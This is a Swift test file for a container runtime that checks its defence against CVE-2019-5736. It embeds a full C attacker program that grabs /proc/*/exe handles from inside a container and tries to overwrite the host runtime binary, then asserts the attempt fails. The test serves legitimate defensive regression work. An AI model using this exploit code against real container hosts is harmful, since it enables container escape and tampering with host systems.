import ContainerKit
import Foundation
import OCI
import TestSupport
import Testing

/// CVE-2019-5736: no process of a container may run, or rewrite, the host binary that started it (`ckit-runtime`, or
/// the embedder's own executable for in-process starts).
@Suite("The runtime binary from inside a container", .enabled(if: isRoot, "requires root"))
struct RuntimeBinaryTests {
  static let usage = ["OVERVIEW", "USAGE", "ckit-runtime"]

  /// A script whose interpreter is the process's own executable.
  static func addSelfExecScript(_ rootfs: URL) throws {
    let script = rootfs.appendingPathComponent("selfexec")
    try Data("#!/proc/self/exe\n".utf8).write(to: script)
    chmod(script.path, 0o755)
  }

  @Test("ckit-runtime run of /proc/self/exe (and a #!/proc/self/exe script) never runs ckit-runtime")
  func cliSelfExec() async throws {
    try await withScratchRoot { scratch in
      for (n, args) in [["/proc/self/exe", "--help"], ["/selfexec", "--help"]].enumerated() {
        let bundle = try RuntimeCLITests.bundle(scratch, args: args)
        try Self.addSelfExecScript(bundle.appendingPathComponent("rootfs"))
        let r = try RuntimeCLITests.cli(scratch, ["run", "--bundle", bundle.path, "self-exec-\(n)"])
        for word in Self.usage { #expect(!r.stdout.contains(word) && !r.stderr.contains(word), "\(args): \(r)") }
        #expect(r.stderr == "ckit exec trampoline: nothing to execute\n", "\(args)")
        #expect(r.status == 127, "\(args)")
        try FileManager.default.removeItem(at: bundle)
      }
    }
  }

  @Test("in-process: /proc/self/exe, as the program, a script's interpreter or exec'd, is the sealed trampoline")
  func inProcessSelfExec() async throws {
    try await withRuntimeFixture { f in
      try Self.addSelfExecScript(f.rootfs)
      // The host's libraries, read-only, so that this test process's own (dynamically linked) executable could run
      // in the container if it were ever exec'd there: its `--help` would print XCTest's usage.
      for link in ["lib", "lib64"] {
        try FileManager.default.createSymbolicLink(
          atPath: f.rootfs.appendingPathComponent(link).path, withDestinationPath: "usr/" + link)
      }
      func spec(_ args: [String]) -> Spec {
        var spec = f.spec(args)
        for dir in ["/usr", "/opt"] {
          spec.mounts?.append(Spec.Mount(destination: dir, type: "bind", source: dir, options: ["rbind", "ro"]))
        }
        return spec
      }
      for args in [["/proc/self/exe", "--help"], ["/selfexec", "--help"]] {
        let r = try await f.run(spec(args))
        #expect(!r.out.contains("Usage") && !r.err.contains("Usage"), "\(args): \(r.out)")
        #expect(r.out == "", "\(args)")
        #expect(r.err == "ckit exec trampoline: nothing to execute\n", "\(args)")
        #expect(r.status.code == 127, "\(args)")
      }
      let c = try await f.start(spec(["sleep", "30"]), id: "self-exec-joined")
      let p = try await c.exec(Spec.Process(args: ["/proc/self/exe", "--help"]), io: .pipes)
      let r = await RuntimeFixture.output(of: p)
      #expect(!r.out.contains("Usage"), "\(r.out)")
      #expect(r.err == "ckit exec trampoline: nothing to execute\n")
      #expect(r.status.code == 127)
      try await f.remove(c, force: true)
    }
  }

  @Test("a seccomp profile that forbids execveat: the program still runs, through /proc/self/fd of the trampoline")
  func execveatForbidden() async throws {
    try await withRuntimeFixture { f in
      var spec = f.spec(["sh", "-c", "echo ran"])
      spec.linux?.seccomp = .denying(["execveat"], errno: EPERM)
      let r = try await f.run(spec)
      #expect(r.out == "ran\n")
      #expect(r.status.code == 0)
    }
  }

  /// The attacker, pid 1 of the container: holds an O_PATH fd of every `/proc/*/exe` that is not busybox, and
  /// reopens it O_WRONLY|O_TRUNC until that works (the host binary is gone: ETXTBSY cleared) or fails for good.
  /// Logs `held`, `wrote` or `refused ERRNO` with the target to /attack.log; `/stop` ends it once nothing is held.
  static let attacker = #"""
    #define _GNU_SOURCE
    #include <dirent.h>
    #include <errno.h>
    #include <fcntl.h>
    #include <stdio.h>
    #include <stdlib.h>
    #include <string.h>
    #include <time.h>
    #include <unistd.h>

    struct held { int fd, pid; char target[256]; };
    static struct held held[256];
    static int seen[4096];

    int main(void) {
      FILE *log = fopen("/attack.log", "w");
      setvbuf(log, NULL, _IONBF, 0);
      fprintf(log, "ready\n");
      int n = 0, nseen = 0;
      time_t stopping = 0;
      for (;;) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d != NULL && (e = readdir(d)) != NULL) {
          int pid = atoi(e->d_name), known = 0;
          if (pid <= 0 || pid == getpid()) continue;
          for (int i = 0; i < nseen; i++) known |= seen[i] == pid;
          if (known || n == 256) continue;
          char path[64], target[256];
          snprintf(path, sizeof path, "/proc/%d/exe", pid);
          int fd = open(path, O_PATH | O_CLOEXEC);
          if (fd < 0) continue;
          snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
          ssize_t l = readlink(path, target, sizeof target - 1);
          if (l <= 0) { close(fd); continue; }
          target[l] = 0;
          seen[nseen++ % 4096] = pid;
          if (strstr(target, "busybox") != NULL) { close(fd); continue; }
          held[n].fd = fd;
          held[n].pid = pid;
          strcpy(held[n].target, target);
          n++;
          fprintf(log, "held %s\n", target);
        }
        if (d != NULL) closedir(d);
        for (int i = 0; i < n;) {
          char path[64];
          snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
          int w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
          if (w < 0 && errno == ETXTBSY) { i++; continue; }
          if (w >= 0) {
            (void)!write(w, "#!/bin/sh\necho PWNED\n", 21);
            close(w);
            fprintf(log, "wrote %s\n", held[i].target);
          } else {
            fprintf(log, "refused %d %s\n", errno, held[i].target);
          }
          close(held[i].fd);
          held[i] = held[--n];
        }
        if (access("/stop", F_OK) == 0) {
          if (stopping == 0) stopping = time(NULL);
          if (n == 0 || time(NULL) - stopping > 5) { fprintf(log, "done %d\n", n); return 0; }
        }
      }
    }
    """#

  /// The attack's setting: a copy of ckit-runtime (the one under test: the attack, if it worked, would destroy it),
  /// a `runc spec` bundle whose writable rootfs holds the attacker and whose process has CAP_SYS_PTRACE (so that
  /// the runtime's clones being non-dumpable does not hide a reachable binary), and the CLI on this test's root.
  struct Attack {
    let runtime: String
    let before: String
    let bundle: URL
    let state: String
    let parent: String
    /// The bundle's writable rootfs: the attacker, and the log it writes.
    var rootfs: URL { bundle.appendingPathComponent("rootfs") }

    init(_ scratch: ScratchRoot, args: [String]) throws {
      runtime = try scratch.directory("bin").appendingPathComponent("ckit-runtime").path
      try Command.run(["cp", RuntimeCLITests.binary, runtime])
      before = try Self.sha256(runtime)
      bundle = try RuntimeCLITests.bundle(scratch, args: args)
      parent = RuntimeCLITests.cgroupParent(scratch)
      for dir in RuntimeFixture.cgroupDirectories(parent) { scratch.register(cgroup: dir) }
      state = scratch.path.appendingPathComponent("state").path
      let source = scratch.path.appendingPathComponent("attacker.c")
      try Data(RuntimeBinaryTests.attacker.utf8).write(to: source)
      try Command.run(["gcc", "-static", "-O2", "-o", rootfs.appendingPathComponent("attacker").path, source.path])
      let config = bundle.appendingPathComponent("config.json")
      var spec = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: config)) as? [String: Any])
      var process = try #require(spec["process"] as? [String: Any])
      var caps = try #require(process["capabilities"] as? [String: [String]])
      for set in ["bounding", "effective", "permitted"] { caps[set, default: []].append("CAP_SYS_PTRACE") }
      process["capabilities"] = caps
      spec["process"] = process
      spec["root"] = ["path": "rootfs", "readonly": false]  // the attacker's log
      try JSONSerialization.data(withJSONObject: spec).write(to: config)
    }

    static func sha256(_ path: String) throws -> String {
      try Command.run(["sha256sum", path]).stdout.split(separator: " ").first.map(String.init) ?? ""
    }

    func cli(_ args: [String]) throws -> CommandResult {
      try Command.run([runtime, "--root", state, "--cgroup-parent", parent] + args, check: false)
    }

    var log: [Substring] {
      ((try? String(contentsOf: rootfs.appendingPathComponent("attack.log"), encoding: .utf8)) ?? "")
        .split(separator: "\n")
    }

    /// Whether the attacker held an exe of the runtime (the copy under test, or what it re-executed from).
    var heldRuntime: Bool { log.contains { $0.hasPrefix("held") && $0.contains("ckit-runtime") } }

    /// Waits until the attacker logged `word`.
    func logged(_ word: String) async throws -> Bool {
      try await RuntimeFixture.eventually { log.contains { $0.hasPrefix(word) } ? true : nil } ?? false
    }

    /// Stops the attacker once it gave up on what it held, and checks the outcome: it saw the runtime, wrote
    /// nothing, was refused, and the copy under test is unchanged and still works.
    func finish(sourceLocation: SourceLocation = #_sourceLocation) async throws {
      _ = FileManager.default.createFile(atPath: rootfs.appendingPathComponent("stop").path, contents: nil)
      _ = try await logged("done")
      let lines = log
      #expect(heldRuntime, "\(lines)", sourceLocation: sourceLocation)
      #expect(!lines.contains { $0.hasPrefix("wrote") }, "\(lines)", sourceLocation: sourceLocation)
      #expect(
        lines.contains { $0.hasPrefix("refused") && $0.contains("ckit-runtime") }, "\(lines)",
        sourceLocation: sourceLocation)
      #expect(
        try Self.sha256(runtime) == before, "the runtime binary was rewritten from the container",
        sourceLocation: sourceLocation)
      let version = try cli(["--version"])
      #expect(
        version.status == 0 && version.stdout.hasPrefix("ckit-runtime version"), "\(version)",
        sourceLocation: sourceLocation)
    }
  }

  @Test("a container with CAP_SYS_PTRACE that grabs /proc/*/exe while ckit-runtime exec runs cannot rewrite it")
  func overwriteAttack() async throws {
    try await withScratchRoot { scratch in
      let a = try Attack(scratch, args: ["/attacker"])
      let started = try a.cli(["run", "-d", "--bundle", a.bundle.path, "attacked"])
      #expect(started.status == 0, "\(started)")
      defer { _ = try? a.cli(["delete", "--force", "attacked"]) }
      try #require(try await a.logged("ready"))
      // The attacker must see the runtime's clone between its setns and its exec: retry until it did.
      var execs = 0
      while execs < 100 && !a.heldRuntime {
        _ = try a.cli(["exec", "attacked", "/bin/true"])
        execs += 1
      }
      // The runtime still works: the copy under test, if rewritten, would fail here.
      let next = try a.cli(["exec", "attacked", "echo", "still here"])
      #expect(next.status == 0 && next.stdout == "still here\n", "\(next)")
      try await a.finish()
    }
  }

  @Test("created, not started: a process exec'd in sees the waiting init as pid 1, and cannot rewrite the runtime")
  func createdInitAttack() async throws {
    try await withScratchRoot { scratch in
      let a = try Attack(scratch, args: ["sleep", "3"])
      let created = try a.cli(["create", "--bundle", a.bundle.path, "created"])
      #expect(created.status == 0, "\(created)")
      defer { _ = try? a.cli(["delete", "--force", "created"]) }
      let exec = try a.cli(["exec", "--detach", "created", "/attacker"])
      #expect(exec.status == 0, "\(exec)")
      _ = try await RuntimeFixture.eventually { a.heldRuntime ? true : nil }
      // pid 1 execs the program: from now on no process runs the binary it was cloned from.
      let started = try a.cli(["start", "created"])
      #expect(started.status == 0, "\(started)")
      try await a.finish()
    }
  }
}
